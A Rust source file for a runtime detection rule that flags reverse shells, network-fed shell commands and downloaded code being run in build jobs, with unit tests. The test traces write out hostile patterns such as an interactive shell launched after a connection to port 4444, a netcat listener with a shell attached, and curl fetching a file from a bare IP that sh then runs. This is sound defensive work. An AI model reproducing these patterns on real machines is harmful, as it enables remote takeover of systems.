//! A shell hangs on a connection: somebody outside types.
//!
//! ## What it sees
//! A shell without a script that is started by a process, or in a process, that has connected to a destination nothing explains; or an
//! interactive shell next to such a process, as a pipe or a named pipe to a network tool makes it. An interpreter that is given its code by a
//! process that has connected out. A shell that is given one line by a process which holds, or just held, a connection to a
//! bare address, or other programs again and again: somebody's orders; and whatever a shell starts that opened the connection itself. By other people's code, a host that is asked
//! again and again, with a shell started in between, whoever it is. A shell in the place of a program that waits for anybody to connect. What came from a bare address, run; by other people's code what came from anywhere, poured into a
//! shell. A program from a scratch folder that takes a connection over, or that calls one bare address again and again.
//!
//! ## Why it matters
//! From then on a person decides what the job does, with everything that the job may do.
//!
//! ## What to do
//! Throw the machine away and revoke every secret of the job. A debug session that is meant has its relay in the step's text or in
//! the policy.
//!
//! ## Known limits
//! What a program fetches and runs by itself without a shell is seen as its connection and its acts, not as remote control; so
//! are orders that come in over a connection that somebody else opened, unless the shell takes the listener's place.

use super::{
    Act, Detection, Ground, Hit, attack, follows_arguments, ground, is_bare, is_bare_object, is_scratch,
    named, reads_its_input, run_file,
};
use crate::divergence::{Effect, chooses};
use crate::event::{Activity, Launch, ProcessKey};
use crate::finding::{Confidence, RuleId, Severity, Technique};
use crate::intent::{basename, is_shell};
use crate::lineage::Process;

pub const DETECTION: Detection = Detection {
    id: RuleId("remote-control"),
    severity: Severity::Critical,
    confidence: Confidence::High,
    techniques: &[Technique("T1059.004"), Technique("T1105"), Technique("T1219"), Technique("T1571")],
    references: &["CVE-2024-3094"],
    frameworks: &["CICD-SEC-7", "ASI05"],
    remedy: "Throw the machine away, revoke every secret of this job, and remove what opened the connection.",
    source: include_str!("remote_control.rs"),
    check,
};

/// A shell that is given its commands by whoever holds its input.
fn is_plain_shell(launch: &Launch) -> bool {
    let name = launch.applet().map_or(basename(&launch.executable.path), |(applet, _)| applet);
    let words = launch.arguments.get(1..).unwrap_or_default();
    launch.script.is_none()
        && is_shell(name)
        && words.iter().all(|word| {
            matches!(
                word.as_str(),
                "-i" | "-li"
                    | "-il"
                    | "-l"
                    | "-p"
                    | "-ip"
                    | "--login"
                    | "--noprofile"
                    | "--norc"
                    | "sh"
                    | "bash"
            )
        })
}

fn is_interactive(process: &Process) -> bool {
    process.launch.as_deref().is_some_and(|launch| {
        is_plain_shell(launch)
            && launch.arguments.iter().skip(1).any(|word| word.starts_with("-i") || word == "-li")
    })
}

/// How often one bare address is called before it looks like waiting for orders.
const CALLS: usize = 3;
/// What a shell starts to pass data on or to wait: by themselves no orders.
const PASSERS: &[&str] = &[
    "sleep", "cat", "head", "tail", "tr", "cut", "grep", "sed", "awk", "wc", "printf", "echo", "base64",
    "gzip", "tar", "timeout", "date", "mktemp", "rm", "true", "test", "tee", "dd",
];
/// How often other people's code asks one host, with a shell in between, before that looks like taking orders.
const ROUNDS: usize = 3;
/// For how long after a connection what was started may have come by it.
const SOON_NS: u64 = 5_000_000_000;
/// How far apart a download and the interpreter that it is poured into may start.
const TOGETHER_NS: u64 = 5_000_000_000;

fn check(act: &Act<'_>) -> Vec<Hit> {
    let ground = ground(act);
    if ground == Ground::Named {
        return Vec::new();
    }
    let mut hits = on_a_connection(act, ground);
    if hits.is_empty() {
        hits = orders(act, ground);
    }
    if hits.is_empty() {
        hits = match (act.effect, act.activity) {
            (Effect::Launch { .. }, Activity::Launch(launch)) => brought(act, launch, ground),
            (Effect::Connect { object, .. }, _) if act.explanation.is_undeclared() => {
                called(act, object, ground)
            }
            _ => Vec::new(),
        };
    }
    hits
}

/// What a strand remembers of other people's code: whom it spoke to, and shells that it started.
pub(super) fn kept(act: &Act<'_>) -> Option<(&'static str, String)> {
    if let (Effect::Launch { program }, Some(parent)) = (act.effect, act.process.parent) {
        let is_connected =
            |contact: &crate::lineage::Touch| contact.process == parent && is_bare_object(&contact.object);
        let giver = act.lineage.get(parent).and_then(|giver| giver.launch.as_deref());
        let is_other = giver.is_some_and(|giver| giver.executable.path != *program);
        if is_other && act.lineage.strand(act.process.key).contacts.iter().any(is_connected) {
            return Some(("ran", format!("{parent} {}", act.sequence)));
        }
    }
    if ground(act) != Ground::Foreign {
        return None;
    }
    match act.effect {
        Effect::Connect { object, .. } => Some(("spoke", format!("{object} {}", act.sequence))),
        Effect::Launch { .. } if is_order(act) => {
            act.process.parent.map(|parent| ("ordered", format!("{parent} {}", act.sequence)))
        }
        _ => None,
    }
}

/// Whether a shell was started with one line to run.
fn is_order(act: &Act<'_>) -> bool {
    let Activity::Launch(launch) = act.activity else { return false };
    let name = launch.applet().map_or(basename(&launch.executable.path), |(applet, _)| applet);
    let takes_line = |word: &String| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c');
    launch.script.is_none() && is_shell(name) && launch.arguments.get(1).is_some_and(takes_line)
}

/// A line for a shell, or a program of a shell, right after or during a connection of the one who starts it.
fn orders(act: &Act<'_>, ground: Ground) -> Vec<Hit> {
    let (Effect::Launch { program }, Some(parent)) = (act.effect, act.process.parent) else {
        return Vec::new();
    };
    let Some(giver) = act.lineage.get(parent) else { return Vec::new() };
    let is_shells = giver.launch.as_deref().is_some_and(|launch| is_shell(basename(&launch.executable.path)));
    // A package client that fetches from a bare address starts scripts by a shell; that is its work.
    let is_passed_on = is_shells && PASSERS.contains(&act.process.name.as_ref());
    if is_passed_on || chooses(giver, act.lineage).is_some() {
        return Vec::new();
    }
    let is_again = || {
        let own = format!("{parent} ");
        let is_same = giver.launch.as_deref().is_some_and(|launch| launch.executable.path == *program);
        !is_same && act.lineage.strand(act.process.key).noted("ran").any(|note| note.object.starts_with(&own))
    };
    if !is_order(act) && !is_shells && !is_again() {
        return Vec::new();
    }
    let sure = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
    let strand = act.lineage.strand(act.process.key);
    let who = named(act.lineage, parent);
    let is_live = |contact: &&crate::lineage::Touch| {
        contact.process == parent
            && is_bare_object(&contact.object)
            && strand
                .noted("closed")
                .filter(|note| {
                    note.process == parent && note.object.split(' ').next() == Some(contact.object.as_str())
                })
                .all(|note| {
                    note.sequence < contact.sequence || act.time.0.saturating_sub(note.time.0) < SOON_NS
                })
    };
    if let Some(contact) = strand.contacts.iter().rev().find(is_live) {
        let title = format!("{who}, connected to {}, started {}", contact.object, act.process.name);
        let mut hits = attack(act, &DETECTION, (Severity::High, sure), title, program);
        hits[0].evidence.push(contact.sequence);
        return hits;
    }
    if ground != Ground::Foreign || !is_order(act) {
        return Vec::new();
    }
    let mut asked: Vec<&crate::lineage::Touch> =
        strand.noted("spoke").filter(|note| note.process == parent).collect();
    asked.sort_by_key(|note| note.sequence);
    let own = format!("{parent} ");
    let orders: Vec<u64> = strand
        .noted("ordered")
        .filter(|note| note.object.starts_with(&own))
        .map(|note| note.sequence)
        .collect();
    let host = |note: &crate::lineage::Touch| note.object.split(' ').next().unwrap_or_default().to_owned();
    let Some(last) = asked.last().map(|last| host(last)) else { return Vec::new() };
    let same: Vec<u64> = asked.iter().filter(|note| host(note) == last).map(|note| note.sequence).collect();
    // A question, then a shell, then a question: each pair of questions with a shell between them is a round.
    let rounds = same
        .windows(2)
        .filter(|pair| orders.iter().any(|order| pair[0] < *order && *order < pair[1]))
        .count();
    if rounds + 1 < ROUNDS {
        return Vec::new();
    }
    let title = format!("{who} asks {last} again and again and has a shell run something each time");
    let mut hits = attack(act, &DETECTION, (Severity::High, Confidence::Medium), title, last);
    hits[0].evidence.extend(same.last());
    hits
}

/// What was fetched runs: a file, the input of an interpreter, or the image of the process that is connected.
fn brought(act: &Act<'_>, launch: &Launch, ground: Ground) -> Vec<Hit> {
    let own = act.process;
    let strand = act.lineage.strand(own.key);
    let sure = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
    let who = named(act.lineage, own.key);
    let file = run_file(launch);
    let tell = |title: String, object: &str, evidence: u64| {
        let mut hits = attack(act, &DETECTION, (Severity::High, sure), title, object);
        hits[0].evidence.push(evidence);
        hits
    };
    let fetched = strand.noted("fetched").chain(strand.noted("scratch-file")).find(|note| {
        let is_from_bare = |contact: &&crate::lineage::Touch| {
            contact.process == note.process && is_bare_object(&contact.object)
        };
        note.object == file && strand.contacts.iter().any(|contact| is_from_bare(&contact))
    });
    if let Some(note) = fetched {
        let from = named(act.lineage, note.process);
        return tell(
            format!("{who} runs {file}, which {from} brought from a bare address"),
            &file,
            note.sequence,
        );
    }
    // The words of the download name the file, whether or not it came.
    let promised = strand.contacts.iter().filter(|contact| is_bare_object(&contact.object)).find(|contact| {
        let getter = act.lineage.get(contact.process);
        getter.is_some_and(|getter| {
            let launch = getter.launch.as_deref();
            follows_arguments(getter)
                && launch.is_some_and(|launch| {
                    launch.arguments.iter().skip(1).any(|word| is_path_of(word, &file, &launch.directory))
                })
        })
    });
    if let Some(contact) = promised {
        let from = named(act.lineage, contact.process);
        return tell(
            format!("{who} runs {file}, which {from} was to bring from {}", contact.object),
            &file,
            contact.sequence,
        );
    }
    let is_brought = is_scratch(&file) && act.lineage.has_written(&file);
    if is_brought
        && let Some(contact) = strand
            .contacts
            .iter()
            .find(|contact| contact.process == own.key && is_bare_object(&contact.object))
    {
        return tell(
            format!("{file} took over the connection to {}", contact.object),
            &file,
            contact.sequence,
        );
    }
    if !reads_its_input(launch) {
        return Vec::new();
    }
    let giver = strand.contacts.iter().find(|contact| own.parent == Some(contact.process));
    if let Some(contact) = giver {
        let from = named(act.lineage, contact.process);
        let title = format!("{who} runs what {from} gave it, after a connection to {}", contact.object);
        return tell(title, &launch.executable.path, contact.sequence);
    }
    // The other end of a pipe connects when it is ready; see below.
    let poured = strand
        .contacts
        .iter()
        .find(|contact| is_poured(act, own.key, contact.process, &contact.object, ground));
    poured.map_or_else(Vec::new, |contact| {
        let from = named(act.lineage, contact.process);
        tell(
            format!("{who} runs what {from} fetches from {}", contact.object),
            &launch.executable.path,
            contact.sequence,
        )
    })
}

/// Whether a word of a download names this file.
fn is_path_of(word: &str, file: &str, directory: &str) -> bool {
    let word = word
        .strip_prefix("-o")
        .or_else(|| word.strip_prefix("-O"))
        .filter(|rest| !rest.is_empty())
        .unwrap_or(word);
    word == file
        || (!word.starts_with(['/', '-'])
            && crate::event::normal_path(&format!("{directory}/{word}")) == *file)
}

/// Whether a transfer tool and an interpreter that reads its input stand on the two ends of a pipe.
fn is_poured(act: &Act<'_>, sink: ProcessKey, source: ProcessKey, object: &str, ground: Ground) -> bool {
    let (Some(sink), Some(source)) = (act.lineage.get(sink), act.lineage.get(source)) else { return false };
    sink.parent == source.parent
        && follows_arguments(source)
        && sink.started.0.abs_diff(source.started.0) <= TOGETHER_NS
        && (ground == Ground::Foreign || is_bare_object(object))
}

/// A connection that pours into an interpreter, or that a program from a scratch folder makes again and again.
fn called(act: &Act<'_>, object: &str, ground: Ground) -> Vec<Hit> {
    let own = act.process;
    let sure = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
    let who = named(act.lineage, own.key);
    let sink = act.lineage.siblings(own.key).into_iter().find(|sink| {
        sink.launched
            && sink.launch.as_deref().is_some_and(reads_its_input)
            && is_poured(act, sink.key, own.key, object, ground)
    });
    if let Some(sink) = sink {
        let title = format!("{} runs what {who} fetches from {object}", sink.name);
        let mut hits = attack(act, &DETECTION, (Severity::High, sure), title, object);
        hits[0].evidence.push(sink.evidence);
        return hits;
    }
    let file = own.launch.as_deref().map(run_file).unwrap_or_default();
    let is_brought = is_scratch(&file) && act.lineage.has_written(&file) && !is_built(act);
    let prefix = format!("{object} ");
    let strand = act.lineage.strand(own.key);
    let calls = strand
        .noted("bare-contact")
        .filter(|note| note.process == own.key && note.object.starts_with(&prefix))
        .count();
    if !is_bare(act) || !is_brought || calls + 1 < CALLS {
        return Vec::new();
    }
    let title = format!("{who}, which runs from a scratch folder, calls {object} again and again");
    attack(act, &DETECTION, (Severity::High, sure), title, object)
}

/// Whether a build tool made the program and runs it, as tests are run.
fn is_built(act: &Act<'_>) -> bool {
    let parent = act.process.parent.and_then(|parent| act.lineage.get(parent));
    parent.is_some_and(|parent| matches!(parent.tool, Some("go" | "cargo" | "tests")))
}

/// A shell that hangs on a connection.
fn on_a_connection(act: &Act<'_>, ground: Ground) -> Vec<Hit> {
    let own = act.process.key;
    let weight = match ground {
        Ground::Foreign => (Severity::Critical, Confidence::High),
        _ => (Severity::Critical, Confidence::Medium),
    };
    let strand = act.lineage.strand(own);
    match act.effect {
        Effect::Launch { program } => {
            if !act.process.launch.as_deref().is_some_and(is_plain_shell) {
                return Vec::new();
            }
            let is_near = |other: ProcessKey| {
                other == own
                    || act.process.parent == Some(other)
                    || (is_interactive(act.process)
                        && act
                            .lineage
                            .get(other)
                            .is_some_and(|other| !other.ended && is_beside(act.process, other)))
            };
            let Some(contact) = strand.contacts.iter().find(|contact| is_near(contact.process)) else {
                return served(act, ground, program);
            };
            let title = format!(
                "A shell hangs on the connection of {} to {}",
                named(act.lineage, contact.process),
                contact.object
            );
            let mut hits = attack(act, &DETECTION, weight, title, program);
            hits[0].evidence.push(contact.sequence);
            hits
        }
        Effect::Connect { object, .. } if act.explanation.reason().is_none() => {
            let beside = act.lineage.in_strand(own);
            let Some(shell) = beside
                .iter()
                .find(|shell| !shell.ended && is_interactive(shell) && is_beside(act.process, shell))
            else {
                return Vec::new();
            };
            let title = format!("A shell hangs on the connection of {} to {object}", named(act.lineage, own));
            let mut hits = attack(act, &DETECTION, weight, title, object);
            hits[0].evidence.push(shell.evidence);
            hits
        }
        _ => Vec::new(),
    }
}

/// Whether two processes were started for each other: by one parent, or in one strand within seconds, each by a launcher of its own.
fn is_beside(one: &Process, other: &Process) -> bool {
    one.key != other.key
        && (one.parent == other.parent || one.started.0.abs_diff(other.started.0) <= TOGETHER_NS)
}

/// A shell in the place of a program that waits for anybody, or below one that other people's code started.
fn served(act: &Act<'_>, ground: Ground, program: &str) -> Vec<Hit> {
    let own = act.process.key;
    let strand = act.lineage.strand(own);
    let Some(port) = strand.noted("open-to-all").find(|note| {
        note.process == own || (ground == Ground::Foreign && act.process.parent == Some(note.process))
    }) else {
        return Vec::new();
    };
    let sure = if ground == Ground::Foreign { Confidence::High } else { Confidence::Medium };
    let title = format!("A shell waits for whoever connects to {}", port.object);
    let mut hits = attack(act, &DETECTION, (Severity::Critical, sure), title, program);
    hits[0].evidence.push(port.sequence);
    hits
}

#[cfg(test)]
mod tests {
    use crate::trace::{expect, findings};

    #[test]
    fn a_shell_on_a_connection_in_any_shape() {
        for acts in [
            "3 connect 203.0.113.7:4444\n3 > 4 launch /usr/bin/dash sh -i",
            "3 connect 203.0.113.7:443\n3 launch /usr/bin/bash bash",
            "3 > 4 launch /usr/bin/bash bash -i\n3 > 5 launch /usr/bin/nc nc x\n5 connect 203.0.113.7:53",
            "3 > 5 launch /usr/bin/openssl openssl s_client\n5 connect 203.0.113.7:53\n3 > 4 launch /usr/bin/dash sh -i",
        ] {
            for (step, above) in
                [("make all\n", "/usr/bin/make make all"), ("npm ci\n", "/usr/bin/node node /usr/bin/npm ci")]
            {
                let trace =
                    format!("1 > 2 launch {above}\n2 > 3 launch /usr/bin/python3.11 python3 x.py\n{acts}");
                let lines = findings(step, "", &trace);
                assert!(
                    lines.iter().any(|line| line.starts_with("!remote-control attack critical")),
                    "{acts}: {lines:?}"
                );
            }
        }
    }

    #[test]
    fn orders_over_a_connection() {
        for acts in [
            "3 connect 203.0.113.7:9002\n3 > 4 launch /usr/bin/dash sh -c id",
            "3 connect 203.0.113.7:4500\n3 > 4 launch /usr/bin/id id\n3 > 5 launch /usr/bin/ls ls",
            "3 send 203.0.113.7:4500\n3 > 4 launch /usr/bin/bash bash -lc id",
            "3 > 5 launch /usr/bin/bash bash x.sh\n5 connect 203.0.113.7:9\n5 > 6 launch /usr/bin/id id",
            "3 > 5 launch /usr/bin/timeout timeout 9 nc\n5 > 6 launch /usr/bin/nc nc 203.0.113.7 9\n6 connect 203.0.113.7:9\n3 > 7 launch /usr/bin/timeout timeout 9 sh -i\n7 > 8 launch /usr/bin/dash sh -i",
            "3 > 4 launch /usr/bin/nc nc -l\n4 listen 0.0.0.0:5555\n4 launch /usr/bin/dash sh",
        ] {
            for (step, above) in
                [("make all\n", "/usr/bin/make make all"), ("npm ci\n", "/usr/bin/node node /usr/bin/npm ci")]
            {
                let trace =
                    format!("1 > 2 launch {above}\n2 > 3 launch /usr/bin/python3.11 python3 x.py\n{acts}");
                let lines = findings(step, "", &trace);
                assert!(
                    lines.iter().any(|line| line.starts_with("!remote-control attack")),
                    "{acts}: {lines:?}"
                );
            }
        }
        // Other people's code that asks a host which the step names, and does what it says.
        let rounds = "3 connect 203.0.113.1:443\n3 > 4 launch /usr/bin/dash sh -c x\n".repeat(3);
        let trace = format!(
            "answer forge.example 203.0.113.1\n1 > 2 launch /usr/bin/node node /usr/bin/npm ci\n2 > 8 launch /usr/bin/dash sh -c x\n8 > 3 launch /usr/bin/python3.11 python3 x.py\n{rounds}"
        );
        let lines = findings("npm ci\ncurl https://forge.example/x\n", "", &trace);
        assert!(lines.contains(&"!remote-control attack high forge.example:443".to_owned()), "{lines:?}");
    }

    #[test]
    fn shells_that_have_nothing_to_do_with_a_connection_stay_quiet() {
        let once = "3 connect 203.0.113.1:443\n3 > 4 launch /usr/bin/dash sh -c x\n";
        for acts in [
            // By a name, to the host that a service has, on loopback.
            once.to_owned(),
            "3 connect 127.0.0.1:5432\n3 > 4 launch /usr/bin/dash sh -c x".to_owned(),
            "3 connect 10.1.2.3:5432\n3 > 4 launch /usr/bin/dash sh -c x".to_owned(),
            // A server for anybody runs what its tests ask for.
            "3 listen 0.0.0.0:8080\n3 > 4 launch /usr/bin/dash sh -c x\n3 > 5 launch /usr/bin/bash bash".to_owned(),
            // A shell passes data on by its own connection.
            "3 > 5 launch /usr/bin/bash bash x.sh\n5 connect 203.0.113.7:9\n5 > 6 launch /usr/bin/cat cat x\n5 > 7 launch /usr/bin/sleep sleep 1".to_owned(),
            // Another process holds the connection.
            "3 > 5 launch /usr/bin/node node y.js\n5 connect 203.0.113.7:80\n3 > 4 launch /usr/bin/dash sh -c x".to_owned(),
        ] {
            let trace = format!(
                "answer get.example 203.0.113.1\n1 > 2 launch /usr/bin/make make all\n2 > 3 launch /usr/bin/node node x.js\n{acts}"
            );
            let lines = findings("make all\n", "", &trace);
            assert!(!lines.iter().any(|line| line.contains("remote-control")), "{acts}: {lines:?}");
        }
    }

    #[test]
    fn what_was_fetched_runs() {
        for (acts, object) in [
            (
                "3 > 4 launch /usr/bin/curl curl -o /tmp/q http://203.0.113.7/q\n4 connect 203.0.113.7:80\n3 > 5 launch /usr/bin/dash sh /tmp/q",
                "/tmp/q",
            ),
            (
                "3 connect 203.0.113.7:80\n3 create /w/x.py\n3 > 5 launch /usr/bin/python3.11 python3 x.py",
                "/w/x.py",
            ),
            ("3 create /tmp/m\n3 connect 203.0.113.7:3333\n3 launch /tmp/m m", "/tmp/m"),
            ("3 connect 203.0.113.7:443\n3 > 4 launch /usr/bin/python3.11 python3 -", "/usr/bin/python3.11"),
            (
                "3 > 4 launch /usr/bin/curl curl http://203.0.113.7\n3 > 5 launch /usr/bin/bash bash\n4 connect 203.0.113.7:80",
                "203.0.113.7:80",
            ),
            (
                "3 create /tmp/b\n3 > 4 launch /tmp/b b\n4 connect 203.0.113.7:80\n4 connect 203.0.113.7:80\n4 connect 203.0.113.7:80",
                "203.0.113.7:80",
            ),
        ] {
            let trace = format!(
                "1 > 2 launch /usr/bin/make make\n2 > 3 launch /usr/bin/python3.11 python3 y.py\n{acts}"
            );
            let lines = findings("make\n", "", &trace);
            let wanted = format!("!remote-control attack high {object}");
            assert!(lines.contains(&wanted), "{acts}: {lines:?}");
        }
    }

    #[test]
    fn tools_that_a_project_fetches_by_name_and_runs_stay_quiet() {
        let lines = findings(
            "make\n",
            "",
            "answer get.example 203.0.113.2
             1 > 2 launch /usr/bin/make make
             2 > 3 launch /usr/bin/dash sh x.sh
             3 > 4 launch /usr/bin/curl curl -o /tmp/get.sh https://get.example/x
             4 connect 203.0.113.2:443
             4 create /tmp/get.sh
             3 > 5 launch /usr/bin/dash sh /tmp/get.sh
             3 > 6 launch /usr/bin/curl curl https://get.example/x
             6 connect 203.0.113.2:443
             3 > 7 launch /usr/bin/dash sh
             3 > 8 launch /usr/bin/go go test
             8 create /tmp/go-build1/x.test
             8 > 9 launch /tmp/go-build1/x.test x.test
             9 connect 203.0.113.9:80
             9 connect 203.0.113.9:80
             9 connect 203.0.113.9:80",
        );
        assert!(!lines.iter().any(|line| line.contains("remote-control")), "{lines:?}");
    }

    #[test]
    fn scripts_tools_and_declared_sessions_stay_quiet() {
        expect(
            "ssh -R 1:2:3 relay.example\nmake all\n",
            "answer relay.example 203.0.113.1
             1 > 2 launch /usr/bin/ssh ssh -R 1:2:3 relay.example
             2 connect 203.0.113.1:22
             2 > 3 launch /usr/bin/bash bash
             1 > 4 launch /usr/bin/make make all
             4 > 5 launch /usr/bin/node node x.js
             5 > 6 launch /usr/bin/dash sh -c x
             5 connect 127.0.0.1:80
             5 > 7 launch /usr/bin/dash sh",
            &[],
        );
    }
}
